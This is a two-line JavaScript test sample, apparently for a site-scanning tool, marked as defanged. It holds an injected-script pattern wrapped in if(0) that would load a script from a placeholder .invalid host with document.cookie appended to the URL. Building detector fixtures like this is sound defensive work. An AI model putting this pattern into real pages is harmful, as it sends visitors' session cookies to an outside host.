
/* Site Triage test sample — DEFANGED: never runs (if(0)) and points at a reserved .invalid host. */
;if(0){(function(){var s=document.createElement('script');s.src='https://cdn-stats.example.invalid/j.js?'+document.cookie;document.head.appendChild(s);})();}
